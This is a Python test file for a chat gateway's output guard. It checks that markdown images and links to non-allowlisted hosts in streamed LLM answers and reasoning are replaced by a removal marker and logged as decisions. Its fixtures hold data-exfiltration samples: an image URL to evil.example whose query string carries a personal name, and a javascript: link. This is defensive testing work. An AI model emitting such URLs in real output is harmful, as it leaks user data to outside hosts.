"""guard.output on a scripted stream: foreign images and links neutralised across deltas, plain
deltas passed as they are, held text released before Done, decisions and the stored answer."""

from __future__ import annotations

from mamori.domain.chat import (
    ChatMessage,
    ContentDelta,
    Done,
    ReasoningDelta,
    StreamEvent,
    ToolCallDelta,
    Usage,
)
from mamori.domain.classification import Classification
from mamori.domain.principal import Face, Principal, Role
from mamori.domain.reasoning import ReasoningDisplay
from mamori.gateway.registry import EndpointRegistry
from mamori.pipeline.runner import ChatPipeline
from mamori.pipeline.stages.classify import ClassifyStage
from mamori.pipeline.stages.guard import InboundGuardStage, OutboundGuardStage
from mamori.pipeline.stages.output_checks import OutputChecksStage
from mamori.pipeline.stages.reasoning import ReasoningDisplayStage
from mamori.pipeline.stages.route import RouteStage
from mamori.pipeline.stages.stream import GatewayStreamStage
from mamori.pipeline.turn import ChatTurn
from tests.pipeline.test_runner import POLICY, Recorder, ScriptedBackend, endpoint

ALLOW = ["intra.city.example.lg.jp"]
MARKER = "〔外部画像を削除しました〕"
# The exfiltration image, cut where an engine's tokens might cut it.
EXFIL_TOKENS = ("結果: ![", "図](https://ev", "il.example/x.png?d=", "田中太郎", ") です")


def principal(locale: str = "ja") -> Principal:
    return Principal("u1", "alice", frozenset({Role.USER}), Face.UI, locale=locale)


def new_turn(display: ReasoningDisplay = ReasoningDisplay.HIDDEN, locale: str = "ja") -> ChatTurn:
    turn = ChatTurn(principal(locale), "m", [ChatMessage(role="user", content="q")])
    turn.reasoning_display = display
    return turn


async def run(turn: ChatTurn, source: list[StreamEvent]) -> list[StreamEvent]:
    stage = OutputChecksStage(ALLOW)
    out: list[StreamEvent] = []
    for event in source:
        turn.record(event)  # as the runner does, before the stages
        out.extend(stage.on_event(turn, event))
    out.extend(await stage.on_end(turn))
    return out


def content(events: list[StreamEvent]) -> str:
    return "".join(e.text for e in events if isinstance(e, ContentDelta))


def reasoning(events: list[StreamEvent]) -> str:
    return "".join(e.text for e in events if isinstance(e, ReasoningDelta))


async def test_an_image_cut_across_deltas_becomes_the_marker_and_a_decision() -> None:
    turn = new_turn()
    out = await run(turn, [*(ContentDelta(t) for t in EXFIL_TOKENS), Done()])
    assert content(out) == f"結果: {MARKER} です"
    assert out[-1] == Done()
    assert "evil.example" not in content(out)
    decisions = [d for d in turn.decisions if d.stage == "guard.output"]
    assert len(decisions) == 1
    assert decisions[0].action == "neutralise"
    assert decisions[0].rule_id == "guard.output.external-link"
    assert decisions[0].detail == {
        "host": "evil.example",
        "kind": "image",
        "reason": "host",
        "where": "answer",
    }
    # Stored as shown: reopening the conversation must not bring the URL back.
    assert turn.answer == f"結果: {MARKER} です"


async def test_plain_deltas_pass_as_the_same_objects_and_the_answer_is_untouched() -> None:
    turn = new_turn()
    source: list[StreamEvent] = [
        ContentDelta("東京の"),
        ContentDelta("人口は"),
        Usage(3, 4),
        ContentDelta("約1400万人です。"),
        Done(),
    ]
    out = await run(turn, source)
    assert all(a is b for a, b in zip(out, source, strict=True))
    assert turn.decisions == []
    assert turn.answer == "東京の人口は約1400万人です。"


async def test_held_text_is_released_before_done_and_before_a_tool_call() -> None:
    turn = new_turn()
    out = await run(turn, [ContentDelta("注[1"), Done()])
    assert out == [ContentDelta("注"), ContentDelta("[1"), Done()]

    turn = new_turn()
    call = ToolCallDelta(0, "c1", "search", "{}")
    out = await run(turn, [ContentDelta("検索しま[す"), call, Done()])
    assert out == [ContentDelta("検索しま"), ContentDelta("[す"), call, Done()]


async def test_a_stream_without_done_is_flushed_at_the_end() -> None:
    turn = new_turn()
    out = await run(turn, [ContentDelta("途中 ![x](https://evil.example/a.png")])
    assert content(out) == f"途中 {MARKER}"


async def test_raw_reasoning_is_checked_and_its_tail_comes_before_the_answer() -> None:
    turn = new_turn(ReasoningDisplay.RAW)
    source: list[StreamEvent] = [
        ReasoningDelta("考え: ![a](https://evil.example/r.png?d=1) と ["),
        ContentDelta("答え"),
        Done(),
    ]
    out = await run(turn, source)
    assert reasoning(out) == f"考え: {MARKER} と ["
    first_content = next(i for i, e in enumerate(out) if isinstance(e, ContentDelta))
    last_reasoning = max(i for i, e in enumerate(out) if isinstance(e, ReasoningDelta))
    assert last_reasoning < first_content
    assert [d.detail["where"] for d in turn.decisions] == ["reasoning"]
    # The raw reasoning stays on record for auditors, as the runner accumulated it.
    assert "evil.example" in turn.reasoning


async def test_reasoning_not_shown_as_text_is_left_to_the_display_stage() -> None:
    turn = new_turn(ReasoningDisplay.HIDDEN)
    delta = ReasoningDelta("![a](https://evil.example/r.png)")
    out = await run(turn, [delta, ContentDelta("答え"), Done()])
    assert out[0] is delta
    assert turn.decisions == []


async def test_one_decision_per_target_and_english_markers() -> None:
    turn = new_turn(locale="en-US")
    image = "![a](https://evil.example/a.png?d=1)"
    text = f"{image} {image} [site](https://other.example/) [x](javascript:alert(1))"
    out = await run(turn, [ContentDelta(text), Done()])
    assert content(out) == (
        "〔external image removed〕 〔external image removed〕 "
        "site〔external link “other.example” removed〕 x〔link removed〕"
    )
    assert [(d.rule_id, d.detail["kind"], d.detail["host"]) for d in turn.decisions] == [
        ("guard.output.external-link", "image", "evil.example"),
        ("guard.output.external-link", "link", "other.example"),
        ("guard.output.unsafe-url", "link", ""),
    ]


async def test_allowlisted_hosts_pass() -> None:
    turn = new_turn()
    text = "![地図](https://map.intra.city.example.lg.jp/a.png?v=2)"
    out = await run(turn, [ContentDelta(text), Done()])
    assert content(out) == text
    assert turn.decisions == []


async def test_the_runner_applies_three_event_stages_in_order() -> None:
    """The factory's three per-event stages, through the runner's written-out path."""
    script: list[StreamEvent | Exception] = [
        ReasoningDelta("思考"),
        *(ContentDelta(t) for t in EXFIL_TOKENS),
        Done(),
    ]
    backends: dict[str, ScriptedBackend] = {}

    def factory(ep: object) -> ScriptedBackend:
        backends["gpu1"] = ScriptedBackend(endpoint("gpu1"), script)
        return backends["gpu1"]

    registry = EndpointRegistry(factory)
    await registry.replace([endpoint("gpu1")], {})
    recorder = Recorder()
    pipeline = ChatPipeline(
        prepare=[
            InboundGuardStage(),
            ClassifyStage(POLICY, Classification.C1),
            RouteStage(registry, POLICY),
        ],
        source=GatewayStreamStage(registry),
        on_event=[OutboundGuardStage(), OutputChecksStage(ALLOW), ReasoningDisplayStage(None)],
        finish=[recorder],
    )
    turn = new_turn(ReasoningDisplay.HIDDEN)
    events = [event async for event in pipeline.run(turn)]
    assert content(events) == f"結果: {MARKER} です"
    assert events[-1] == Done()
    assert recorder.finished[0].answer == f"結果: {MARKER} です"
    assert [d.rule_id for d in turn.decisions if d.stage == "guard.output"] == [
        "guard.output.external-link"
    ]
